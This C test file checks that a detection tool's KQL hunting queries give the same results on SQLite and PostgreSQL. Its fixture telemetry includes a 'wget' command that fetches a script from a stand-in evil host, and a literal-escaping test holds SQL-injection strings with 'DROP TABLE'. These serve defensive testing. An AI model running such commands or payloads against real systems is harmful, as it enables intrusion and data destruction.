// SPDX-License-Identifier: GPL-2.0-only
/*
 * KQL on PostgreSQL against KQL on SQLite: the same rows in a local store and
 * in a throwaway PostgreSQL 15 with the fleet's own schema (scripts/pgtest.sh,
 * root), the same queries, the same result rows. Then the constructs PostgreSQL refuses (with their
 * positions), a quote in a string literal, and `vigil hunt --pg` itself.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <libpq-fe.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "alerts.h"
#include "detect.h"
#include "fixture.h"
#include "fmt.h"
#include "hunt.h"
#include "kql.h"
#include "server.h"
#include "store.h"

static char tmp[64], pgci[256], dbpath[96];
static struct vg_store *store;

static const char *const rows[] = {
	"INSERT INTO \"DeviceInfo\" (\"Timestamp\", \"DeviceId\", \"DeviceName\", \"OSPlatform\","
	" \"HostDeviceId\") VALUES"
	" ('2026-11-01T09:00:00.000Z', 'wsl-1', 'box-wsl', 'Linux', 'win-1'),"
	" ('2026-11-01T09:00:00.000Z', 'lin-1', 'plain', 'Linux', ''),"
	" ('2026-11-01T09:00:00.000Z', 'lin-2', 'other', 'Linux', NULL),"
	" ('2026-11-01T09:00:00.000Z', 'win-1', 'winbox', 'Windows', '')",
	"INSERT INTO \"DeviceProcessEvents\" (\"Timestamp\", \"DeviceId\", \"ActionType\","
	" \"ReportId\", \"FileName\", \"FolderPath\", \"ProcessId\", \"ProcessCommandLine\")"
	" VALUES"
	" ('2026-11-01T10:00:00.125Z', 'wsl-1', 'ProcessCreated', 1, 'curl', '/usr/bin/curl',"
	"  100, 'curl -s HTTPS://Example.COM/x'),"
	" ('2026-11-01T10:30:00.000Z', 'wsl-1', 'ProcessCreated', 2, 'wget', '/usr/bin/wget',"
	"  101, 'wget http://evil.example.org/a.sh'),"
	" ('2026-11-01T11:15:00.500Z', 'wsl-1', 'ProcessCreated', 3, 'sh', '/bin/SH', 102,"
	"  'sh -c \"echo hi\"'),"
	" ('2026-11-01T10:45:00.000Z', 'lin-1', 'ProcessCreated', 4, 'curl', '/usr/bin/curl',"
	"  200, 'curl localhost'),"
	" ('2026-11-01T12:00:00.000Z', 'lin-1', 'ProcessCreated', 5, 'bash', '/bin/bash', 201,"
	"  'bash -l'),"
	" ('2026-11-01T12:00:01.000Z', 'lin-2', 'ProcessCreated', 6, NULL, NULL, 300, NULL)",
	"INSERT INTO \"DeviceNetworkEvents\" (\"Timestamp\", \"DeviceId\", \"ActionType\","
	" \"RemoteIP\", \"RemotePort\", \"InitiatingProcessId\") VALUES"
	" ('2026-11-01T10:00:01.000Z', 'wsl-1', 'ConnectionSuccess', '93.184.216.34', 443, 100),"
	" ('2026-11-01T10:45:01.000Z', 'lin-1', 'ConnectionSuccess', '127.0.0.1', 80, 200)",
	"INSERT INTO \"AlertInfo\" (\"Timestamp\", \"AlertId\", \"Title\", \"Category\","
	" \"Severity\", \"DetectionSource\", \"AttackTechniques\", \"RuleId\", \"DeviceId\","
	" \"GroupKey\") VALUES"
	" ('2026-11-01T10:00:02.000Z', 'a-1', 'Download run', 'Execution', 'High', 'vigil',"
	"  'T1105', 'download', 'wsl-1', 'k1'),"
	" ('2026-11-01T11:00:00.000Z', 'a-2', 'Shell', 'Execution', 'Low', 'vigil', NULL,"
	"  'shell', 'lin-1', 'k2')",
	"INSERT INTO \"AlertEvidence\" (\"Timestamp\", \"AlertId\", \"EntityType\","
	" \"EvidenceRole\", \"DeviceId\", \"ActionType\", \"FileName\", \"FolderPath\","
	" \"ProcessId\", \"ProcessCommandLine\", \"SourceTable\", \"SourceRowId\","
	" \"ReportId\") VALUES"
	" ('2026-11-01T10:00:00.125Z', 'a-1', 'Process', 'Impacted', 'wsl-1', 'ProcessCreated',"
	"  'curl', '/usr/bin/curl', 100, 'curl -s x', 'DeviceProcessEvents', 1, 1),"
	" ('2026-11-01T10:30:00.000Z', 'a-1', 'Process', 'Impacted', 'wsl-1', 'ProcessCreated',"
	"  'wget', '/usr/bin/wget', 101, '', 'DeviceProcessEvents', 2, 2),"
	" ('2026-11-01T10:45:00.000Z', 'a-2', 'Process', 'Impacted', 'lin-1', 'ProcessCreated',"
	"  'curl', '/usr/bin/curl', 200, 'curl \"q\"', 'DeviceProcessEvents', 4, 4)",
};

static void pg_exec(const char *sql)
{
	PGconn *pg = PQconnectdb(pgci);
	PGresult *r;

	cr_assert_eq(PQstatus(pg), CONNECTION_OK, "%s", PQerrorMessage(pg));
	r = PQexec(pg, sql);
	cr_assert_eq(PQresultStatus(r), PGRES_COMMAND_OK, "%s: %s", sql, PQerrorMessage(pg));
	PQclear(r);
	PQfinish(pg);
}

static void setup(void)
{
	char cmd[256];
	FILE *p;

	cr_assert_eq(getuid(), 0, "the fleet tests run PostgreSQL as the postgres user: root");
	snprintf(tmp, sizeof(tmp), "/tmp/vgfleet.XXXXXX");
	cr_assert(mkdtemp(tmp));
	cr_assert_eq(chmod(tmp, 0711), 0);
	snprintf(cmd, sizeof(cmd), "scripts/pgtest.sh %s %s/pg", fx_pg_start(), tmp);
	p = popen(cmd, "r");
	cr_assert(p);
	cr_assert(fgets(pgci, sizeof(pgci), p), "pgtest.sh start printed nothing");
	cr_assert_eq(pclose(p), 0);
	pgci[strcspn(pgci, "\n")] = 0;
	snprintf(dbpath, sizeof(dbpath), "%s/store.db", tmp);
	cr_assert_eq(vg_store_open(&store, dbpath), 0);
	cr_assert_eq(vg_alerts_schema(vg_store_db(store)), 0);
	/* The fleet's own schema (server/pgschema.c), and the day the rows are of. */
	if (!fx_sharded()) /* pgtest.sh start-sharded made it with `vigil server shards` */
		pg_exec(vg_pg_schema_sql());
	pg_exec("DO $$ BEGIN PERFORM vigil_partition('2026-11-01'); END $$");
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		char *msg = NULL;

		cr_assert_eq(sqlite3_exec(vg_store_db(store), rows[i], NULL, NULL, &msg), SQLITE_OK,
			     "%s", msg);
		pg_exec(rows[i]);
	}
}

static void teardown(void)
{
	char cmd[256];

	if (store)
		vg_store_close(store);
	if (!tmp[0])
		return;
	snprintf(cmd, sizeof(cmd), "scripts/pgtest.sh stop %s/pg >/dev/null 2>&1; rm -rf %s", tmp,
		 tmp);
	if (system(cmd))
		fprintf(stderr, "cleanup of %s failed\n", tmp);
}

TestSuite(fleet_hunt, .init = setup, .fini = teardown);

/* JSON lines of a query; *rc the run's result */
static char *run(int pg, const char *q, enum vg_hunt_format fmt, long *rc)
{
	char *buf = NULL, *ebuf = NULL;
	size_t len = 0, elen = 0;
	FILE *out = open_memstream(&buf, &len), *err = open_memstream(&ebuf, &elen);

	cr_assert(out && err);
	*rc = pg ? vg_hunt_run_pg(pgci, q, "q", fmt, out, err) :
		   vg_hunt_run(vg_store_db(store), q, "q", fmt, out, err);
	fclose(out);
	fclose(err);
	cr_assert_geq(*rc, 0, "%s on %s: %ld: %s", q, pg ? "PostgreSQL" : "SQLite", *rc, ebuf);
	free(ebuf);
	return buf;
}

static int cmp_line(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* make_set/make_list order their elements as each database likes: sort ["a","b"] in place */
static void sort_arrays(char *s)
{
	static const char open[] = "\"[\\\"", sep[] = "\\\",\\\"", close[] = "\\\"]\"";
	char *p = s;

	while ((p = strstr(p, open))) {
		char *in = p + strlen(open), *end = strstr(in, close), *el[32], *e;
		struct vg_sb o;
		int n = 0;

		if (!end)
			break;
		*end = 0;
		for (e = in; n < 32; e += strlen(sep)) {
			char *next = strstr(e, sep);

			el[n++] = e;
			if (!next)
				break;
			*next = 0;
			e = next;
		}
		qsort(el, (size_t)n, sizeof(el[0]), cmp_line);
		vg_sb_init(&o);
		for (int i = 0; i < n; i++)
			vg_sb_printf(&o, "%s%s", i ? sep : "", el[i]);
		memcpy(in, vg_sb_str(&o) ?: "", o.len);
		*end = close[0];
		vg_sb_free(&o);
		p = end + strlen(close);
	}
}

/* the lines of s sorted (rows of a query without an order) */
static void sort_lines(char *s)
{
	char *copy = strdup(s), *lines[256];
	int n = 0;
	size_t off = 0;

	cr_assert(copy);
	for (char *l = strtok(copy, "\n"); l && n < 256; l = strtok(NULL, "\n"))
		lines[n++] = l;
	qsort(lines, (size_t)n, sizeof(lines[0]), cmp_line);
	for (int i = 0; i < n; i++)
		off += (size_t)sprintf(s + off, "%s\n", lines[i]);
	free(copy);
}

static void same(const char *q, int ordered, long want_rows)
{
	long a, b;
	char *l = run(0, q, VG_HUNT_JSON, &a), *p = run(1, q, VG_HUNT_JSON, &b);

	sort_arrays(l);
	sort_arrays(p);
	if (!ordered) {
		sort_lines(l);
		sort_lines(p);
	}
	cr_expect_eq(a, want_rows, "%s: SQLite gave %ld rows:\n%s", q, a, l);
	cr_expect_str_eq(p, l, "%s\nPostgreSQL:\n%s\nSQLite:\n%s", q, p, l);
	free(l);
	free(p);
}

Test(fleet_hunt, same_rows_on_sqlite_and_postgresql)
{
	/* docs/schema.md's three queries, verbatim */
	same("let wsl_endpoints = DeviceInfo\n"
	     "| where OSPlatform == \"Linux\" and isempty(HostDeviceId) != true\n"
	     "| distinct DeviceId;\n"
	     "wsl_endpoints",
	     0, 1);
	same("DeviceInfo\n"
	     "| where OSPlatform == \"Linux\" and isempty(HostDeviceId) != true\n"
	     "| distinct WSLDeviceId=DeviceId, HostDeviceId",
	     0, 1);
	same("let wsl_endpoints = DeviceInfo\n"
	     "| where OSPlatform == \"Linux\" and isempty(HostDeviceId) != true\n"
	     "| distinct DeviceId;\n"
	     "DeviceProcessEvents\n"
	     "| where FileName == \"curl\" or FileName == \"wget\"\n"
	     "| where DeviceId in (wsl_endpoints)\n"
	     "| sort by Timestamp desc",
	     1, 2);
	same("DeviceProcessEvents | where FileName has \"curl\" and ProcessCommandLine contains"
	     " \"example\" | project Timestamp, DeviceId, FileName",
	     0, 1);
	same("DeviceProcessEvents | summarize n = count(), d = dcount(FileName), s = sum(ProcessId),"
	     " a = avg(ProcessId), first = min(Timestamp), mx = max(ProcessId),"
	     " c = countif(FileName == \"curl\") by DeviceId",
	     0, 3);
	same("DeviceProcessEvents | summarize count() by bin(Timestamp, 1h)", 0, 3);
	same("DeviceProcessEvents | summarize count() by b = bin(ProcessId, 100)", 0, 3);
	same("DeviceProcessEvents | join kind=inner (DeviceInfo | project DeviceId, OSPlatform)"
	     " on DeviceId | project DeviceId, FileName, OSPlatform",
	     0, 6);
	same("DeviceProcessEvents | join (DeviceNetworkEvents) on $left.ProcessId =="
	     " $right.InitiatingProcessId | project FileName, RemoteIP, RemotePort",
	     0, 2);
	same("DeviceProcessEvents | join kind=leftanti DeviceNetworkEvents on DeviceId"
	     " | project ProcessId",
	     0, 1);
	same("DeviceProcessEvents | summarize arg_max(Timestamp, FileName, ProcessId) by DeviceId",
	     0, 3);
	same("DeviceProcessEvents | summarize arg_min(ProcessId, *) by DeviceId"
	     " | project DeviceId, ProcessId, Timestamp",
	     0, 3);
	same("DeviceProcessEvents | where ProcessCommandLine has_any (\"example.com\", \"EVIL\")"
	     " | project FileName, ProcessCommandLine",
	     0, 2);
	same("DeviceProcessEvents | where ProcessCommandLine has_all (dynamic([\"curl\", \"-s\"]))"
	     " | project ProcessId",
	     0, 1);
	same("DeviceProcessEvents | where ProcessCommandLine has \"exam\" | project ProcessId", 0,
	     0);
	same("DeviceProcessEvents | where ProcessCommandLine matches regex"
	     " @\"(?i)https?://[a-z.]+\\.COM\\b\" | project ProcessId",
	     0, 1);
	same("DeviceProcessEvents | where ProcessCommandLine matches regex @\"\\d\\.sh$\""
	     " or FileName matches regex \"^b(?:a|o)sh\" | project ProcessId",
	     0, 1);
	/* Sigma's |cidr, as its Kusto back end writes it */
	same("DeviceNetworkEvents | where ipv4_is_in_range(RemoteIP, \"127.0.0.0/8\") or"
	     " ipv4_is_in_range(RemoteIP, \"93.184.216.0/22\") | project RemotePort",
	     0, 2);
	same("DeviceNetworkEvents | where not(ipv4_is_in_range(RemoteIP, \"93.184.0.0/16\"))"
	     " | project RemotePort",
	     0, 1);
	same("DeviceProcessEvents | summarize make_set(FileName), make_list(ProcessId) by DeviceId",
	     0, 3);
	same("union DeviceInfo, (DeviceProcessEvents | project DeviceId, Timestamp)"
	     " | summarize count() by DeviceId",
	     0, 4);
	same("union withsource=T DeviceNetworkEvents, DeviceInfo | project T, DeviceId, RemotePort",
	     0, 6);
	same("DeviceProcessEvents | where Timestamp between (datetime(2026-11-01T10:00:00Z) .. 1h)"
	     " | project ProcessId",
	     0, 3);
	same("DeviceProcessEvents | where Timestamp !between (datetime(2026-11-01 10:00) .."
	     " datetime(2026-11-01 11:00)) | project ProcessId, Timestamp",
	     0, 3);
	same("DeviceProcessEvents | where FileName in~ (\"CURL\", \"sh\") and DeviceId !in"
	     " (\"lin-1\") | project ProcessId",
	     0, 2);
	same("DeviceProcessEvents | where FileName !in (\"curl\") | project ProcessId", 0, 4);
	same("DeviceProcessEvents | extend L = strlen(FileName), U = toupper(FileName),"
	     " S = tostring(ProcessId), C = strcat(FileName, \"@\", DeviceId),"
	     " B = ProcessId > 150, T = Timestamp + 30m"
	     " | top 3 by ProcessId asc | project ProcessId, L, U, S, C, B, T",
	     1, 3);
	same("DeviceProcessEvents | where FileName startswith \"CU\" or FolderPath endswith \"/sh\""
	     " or FileName =~ \"BASH\" | distinct FileName",
	     0, 3);
	same("DeviceProcessEvents | where FileName startswith_cs \"CU\" or FolderPath endswith_cs"
	     " \"/sh\" or ProcessCommandLine contains_cs \"HTTPS\" | project ProcessId",
	     0, 1);
	/* contains is LIKE on PostgreSQL: its metacharacters in a needle are literal */
	same("DeviceProcessEvents | where ProcessCommandLine contains \"_\" or ProcessCommandLine"
	     " contains \"%\" or ProcessCommandLine contains @\"\\\" or ProcessCommandLine"
	     " contains \"s_H\" | project ProcessId",
	     0, 0);
	same("DeviceProcessEvents | where ProcessCommandLine contains \"S HTTPs://\""
	     " or ProcessCommandLine contains \"c \\\"echo\" | project ProcessId",
	     0, 2);
	same("DeviceProcessEvents | where Timestamp > ago(36500d) and Timestamp < now()"
	     " | count",
	     0, 1);
	same("DeviceProcessEvents | sort by FileName asc, ProcessId desc | project FileName,"
	     " ProcessId",
	     1, 6);
	same("DeviceProcessEvents | order by FileName desc | take 3 | project FileName", 1, 3);
	same("DeviceProcessEvents | where isnotempty(FileName) and not(ProcessId > 200)"
	     " | extend X = iff(ProcessId > 100, \"hi\", \"lo\") | project-away ActionType"
	     " | project-rename Pid = ProcessId | project Pid, X, R = ReportId * 2 + 1",
	     0, 4);
	same("let n = 2; let tools = dynamic([\"curl\", \"wget\"]);\n"
	     "DeviceProcessEvents | where FileName in (tools) | sort by ProcessId asc | take n"
	     " | project ProcessId",
	     1, 2);
	same("DeviceProcessEvents | distinct *", 0, 6);
	/* long strings in lists are values, not names: no 63-byte limit */
	same("DeviceProcessEvents | where ProcessCommandLine has_any (\"evil\", \"a long needle of"
	     " more than sixty-three bytes, which is fine for a value\") or FileName in"
	     " (dynamic([\"sh\", \"another long value of more than sixty-three bytes in a"
	     " dynamic list\"])) | project ProcessId",
	     0, 2);
	same("DeviceNetworkEvents | join kind=fullouter (DeviceInfo | project DeviceId, OSPlatform)"
	     " on DeviceId | project DeviceId, DeviceId1, OSPlatform, RemotePort",
	     0, 4);
	same("DeviceNetworkEvents | join kind=innerunique (DeviceProcessEvents) on DeviceId"
	     " | count",
	     0, 1);
	same("union kind=inner DeviceInfo, DeviceNetworkEvents | summarize dcount(DeviceId)", 0, 1);
	same("DeviceProcessEvents | where Timestamp > datetime(2026-11-01T10:30:00Z)"
	     " | summarize max(Timestamp), min(FileName), make_list(Timestamp)",
	     0, 1);
	same("DeviceProcessEvents | where ProcessId == 100 or ProcessId != ProcessId"
	     " | project ProcessId, I = toint(\"7\"), D = todouble(ProcessId) / 8",
	     0, 1);
}

/*
 * extract_json() as the rules use it: the same rows from SQLite's
 * json_extract() and the schema's vigil_json(); a text that is not JSON, an
 * array where an object is looked for, a JSON null and a NULL give nothing
 * and fail nothing.
 */
Test(fleet_hunt, extract_json_same_on_sqlite_and_postgresql)
{
	static const char ins[] =
		"INSERT INTO \"DeviceFileEvents\" (\"Timestamp\", \"DeviceId\", \"ActionType\","
		" \"ReportId\", \"FileName\", \"AdditionalFields\") VALUES"
		" ('2026-11-01T10:00:00.000Z', 'lin-1', 'FileModified', 11, 'a',"
		"  '{\"Mode\":\"4755\",\"OpenFlags\":577,\"StdinSocket\":true,"
		"\"StdoutSocket\":true,\"ScriptPath\":\"/tmp/x.sh\",\"Result\":0}'),"
		" ('2026-11-01T10:00:01.000Z', 'lin-1', 'FileModified', 12, 'b',"
		"  '{\"Mode\":\"0644\",\"OpenFlags\":0,\"StdinSocket\":false,\"StdoutSocket\":true}'),"
		" ('2026-11-01T10:00:02.000Z', 'lin-1', 'FileModified', 13, 'c', 'not json {'),"
		" ('2026-11-01T10:00:03.000Z', 'lin-1', 'FileModified', 14, 'd', NULL),"
		" ('2026-11-01T10:00:04.000Z', 'lin-1', 'FileModified', 15, 'e', '[{\"Mode\":\"4755\"}]'),"
		" ('2026-11-01T10:00:05.000Z', 'lin-1', 'FileModified', 16, 'f',"
		"  '{\"Mode\":null,\"Result\":-1}')";
	char *msg = NULL;

	cr_assert_eq(sqlite3_exec(vg_store_db(store), ins, NULL, NULL, &msg), SQLITE_OK, "%s", msg);
	pg_exec(ins);
	/* reverse_shell_stdio.rule, privesc_setid_chmod.rule, ptrace_other_user.rule */
	same("DeviceFileEvents | where extract_json(\"$.StdinSocket\", AdditionalFields) == true"
	     " and extract_json(\"$.StdoutSocket\", AdditionalFields) == true | project ReportId",
	     0, 1);
	same("DeviceFileEvents | where extract_json(\"$.StdinSocket\", AdditionalFields) != true"
	     " | project ReportId",
	     0, 5);
	same("DeviceFileEvents | where extract_json(\"$.StdinSocket\", AdditionalFields) == false"
	     " | project ReportId",
	     0, 1);
	same("DeviceFileEvents | where extract_json(\"$.Mode\", AdditionalFields)"
	     " matches regex \"^[4-7][0-7][0-7][0-7]$\" | project ReportId",
	     0, 1);
	same("DeviceFileEvents | where toint(extract_json(\"$.Result\", AdditionalFields)) < 0"
	     " | project ReportId",
	     0, 1);
	same("DeviceFileEvents | where extract_json(\"$.OpenFlags\", AdditionalFields) == 577"
	     " | project ReportId",
	     0, 1);
	/* evasion_history.rule, download_exec.rule */
	same("DeviceFileEvents | where floor(toint(extract_json(\"$.OpenFlags\", AdditionalFields)), 512)"
	     " != floor(toint(extract_json(\"$.OpenFlags\", AdditionalFields)), 1024)"
	     " | project ReportId",
	     0, 1);
	same("DeviceFileEvents | extend Image = iff(isnotempty(tostring(extractjson("
	     "\"$.ScriptPath\", AdditionalFields))), tostring(extract_json(\"$.ScriptPath\","
	     " AdditionalFields)), FileName) | project ReportId, Image,"
	     " M = extract_json(\"$.Mode\", AdditionalFields),"
	     " S = tostring(extract_json(\"$.StdinSocket\", AdditionalFields)),"
	     " F = tostring(extract_json(\"$.OpenFlags\", AdditionalFields))",
	     0, 6);
}

/* what PostgreSQL cannot run is a query error at its position, never SQL */
Test(fleet_kql, refused_on_postgresql_with_positions)
{
	static const char *const cols[] = { "Timestamp", "DeviceId", "FileName",
					    "AdditionalFields" };
	struct vg_kql_table t = { "DeviceProcessEvents", cols, 4 };
	static const struct {
		const char *q, *msg;
		int line, col;
	} cases[] = {
		{ "DeviceProcessEvents | where FileName matches regex FileName",
		  "matches regex takes a string literal on PostgreSQL", 1, 52 },
		{ "DeviceProcessEvents | where FileName matches regex @\"[a\\\\]\"",
		  "a backslash in a bracket expression is not supported on PostgreSQL", 1, 52 },
		{ "DeviceProcessEvents | where FileName matches regex \"(?=a)\"",
		  "unsupported group (?= in regular expression (only (?: and a leading (?i))", 1,
		  52 },
		{ "AlertInfo | take 1", "unknown table 'AlertInfo'", 1, 1 },
		{ "DeviceProcessEvents | extend "
		  "a234567890123456789012345678901234567890123456789012345678901234 = 1",
		  "column name 'a234567890123456789012345678901234567890...' longer than 63 bytes"
		  " on PostgreSQL",
		  1, 30 },
	};
	struct vg_kql_query q;
	struct vg_kql_error e;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		cr_expect_eq(vg_kql_translate_for(VG_KQL_PG, &t, 1, cases[i].q, 0, &q, &e), -EINVAL,
			     "%s", cases[i].q);
		cr_expect_str_eq(e.msg, cases[i].msg, "%s", cases[i].q);
		cr_expect_eq(e.line, cases[i].line, "%s: line %d", cases[i].q, e.line);
		cr_expect_eq(e.col, cases[i].col, "%s: col %d", cases[i].q, e.col);
		cr_expect_null(q.sql);
	}
	/* a rule's bounded read on PostgreSQL: the rows stored between two ingest ids */
	cr_assert_eq(vg_kql_translate_for(VG_KQL_PG, &t, 1, "DeviceProcessEvents", VG_KQL_BOUNDED,
					  &q, &e),
		     0, "%s", e.msg);
	cr_expect_str_eq(q.sql, "SELECT \"IngestId\" AS \"_rid\", \"Timestamp\", \"DeviceId\","
				" \"FileName\", \"AdditionalFields\" FROM \"DeviceProcessEvents\""
				" WHERE \"IngestId\" > $1 AND \"IngestId\" <= $2");
	cr_expect_str_eq(q.cols[0], "_rid");
	cr_expect_str_eq(q.source, "DeviceProcessEvents");
	vg_kql_query_free(&q);
}

/* a quote and a backslash in a string literal stay in the literal on PostgreSQL */
Test(fleet_hunt, string_literal_stays_a_literal)
{
	long n;
	char *out;

	same("DeviceInfo | where DeviceName == \"x'; DROP TABLE \\\"DeviceInfo\\\"; --\" | count",
	     0, 1);
	same("DeviceInfo | where DeviceName != @\"x\\'; SELECT 1; --\" | count", 0, 1);
	same("DeviceInfo | extend s = \"a'b\\\\c\\\"d\" | project s | take 1", 0, 1);
	out = run(1, "DeviceInfo | count", VG_HUNT_CSV, &n);
	cr_expect_str_eq(out, "Count\r\n4\r\n");
	free(out);
}

/* the real binary: same CSV from --pg as from --db, and a query error with its caret */
Test(fleet_hunt, vigil_hunt_pg_end_to_end)
{
	const char *vigil = getenv("VIGIL") ?: "build/vigil";
	static const char q[] =
		"DeviceProcessEvents | where FileName in (\\\"curl\\\", \\\"wget\\\")"
		" | summarize n = count(), last = max(Timestamp) by DeviceId";
	char cmd[1024], a[4096] = "", b[4096] = "";
	FILE *p;
	size_t na, nb;

	vg_store_close(store);
	store = NULL;
	snprintf(cmd, sizeof(cmd), "%s hunt --pg '%s' --format csv \"%s\" | sort", vigil, pgci, q);
	p = popen(cmd, "r");
	na = fread(a, 1, sizeof(a) - 1, p);
	cr_expect_eq(pclose(p), 0);
	snprintf(cmd, sizeof(cmd), "%s hunt --db %s --format csv \"%s\" | sort", vigil, dbpath, q);
	p = popen(cmd, "r");
	nb = fread(b, 1, sizeof(b) - 1, p);
	cr_expect_eq(pclose(p), 0);
	a[na] = b[nb] = 0;
	cr_expect_str_eq(a, "DeviceId,n,last\r\nlin-1,1,2026-11-01T10:45:00.000Z\r\n"
			    "wsl-1,2,2026-11-01T10:30:00.000Z\r\n");
	cr_expect_str_eq(a, b);
	snprintf(cmd, sizeof(cmd), "%s hunt --pg '%s' 'DeviceInfo | where x == 1' 2>&1; echo rc=$?",
		 vigil, pgci);
	p = popen(cmd, "r");
	na = fread(a, 1, sizeof(a) - 1, p);
	pclose(p);
	a[na] = 0;
	cr_expect_str_eq(a, "query:1:20: unknown column 'x'\n  DeviceInfo | where x == 1\n"
			    "                     ^\nrc=1\n");
	snprintf(cmd, sizeof(cmd), "%s alerts --pg '%s' --json", vigil, pgci);
	p = popen(cmd, "r");
	na = fread(a, 1, sizeof(a) - 1, p);
	cr_expect_eq(pclose(p), 0);
	snprintf(cmd, sizeof(cmd), "%s alerts --db %s --json", vigil, dbpath);
	p = popen(cmd, "r");
	nb = fread(b, 1, sizeof(b) - 1, p);
	cr_expect_eq(pclose(p), 0);
	a[na] = b[nb] = 0;
	cr_expect_str_eq(a, b);
	cr_expect(strstr(a, "\"AlertId\":\"a-2\""), "%s", a);
}

static char *alerts(int pg, int json)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);
	int64_t last = 0;
	long n;

	cr_assert(out);
	n = pg ? vg_alerts_print_pg(pgci, out, json) :
		 vg_alerts_print(vg_store_db(store), out, json, 0, &last);
	fclose(out);
	cr_expect_eq(n, 2, "%s: %ld alerts", pg ? "PostgreSQL" : "SQLite", n);
	return buf;
}

/* vigil alerts --pg prints what vigil alerts --db does for the same rows */
Test(fleet_hunt, alerts_same_on_both)
{
	for (int json = 0; json < 2; json++) {
		char *l = alerts(0, json), *p = alerts(1, json);

		cr_expect_str_eq(p, l, "PostgreSQL:\n%s\nSQLite:\n%s", p, l);
		if (json)
			cr_expect(strstr(p, "\"SourceRowId\":2,\"ReportId\":2"), "%s", p);
		else
			cr_expect(strstr(p, "2026-11-01T10:00:02.000Z  High"), "%s", p);
		free(l);
		free(p);
	}
}
